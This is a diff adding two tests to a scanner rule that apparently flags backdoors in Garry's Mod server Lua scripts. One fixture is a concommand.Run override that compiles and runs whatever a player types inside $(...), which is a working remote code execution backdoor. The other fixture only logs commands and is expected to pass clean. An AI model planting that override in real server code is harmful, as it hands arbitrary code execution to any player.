@@ -160,4 +160,29 @@ describe('concommand_backdoor', () => {
     });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
   });
+  it('a replaced console command dispatcher that compiles what players type', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_macros.lua': [
+        'local oldRun = concommand.Run',
+        'function concommand.Run(ply, cmd, args, argStr)',
+        ' local expr = string.match(argStr or "", "^%$%((.*)%)$")',
+        ' if expr then local f = CompileString("return " .. expr, "macro", false) if f then f() end end',
+        ' return oldRun(ply, cmd, args, argStr)',
+        'end',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a replaced console command dispatcher that only logs', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_cmdlog.lua': [
+        'local oldRun = concommand.Run',
+        'function concommand.Run(ply, cmd, args, argStr)',
+        ' ServerLog(string.format("%s ran %s %s\\n", IsValid(ply) and ply:Nick() or "console", cmd, argStr or ""))',
+        ' return oldRun(ply, cmd, args, argStr)',
+        'end',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
 });
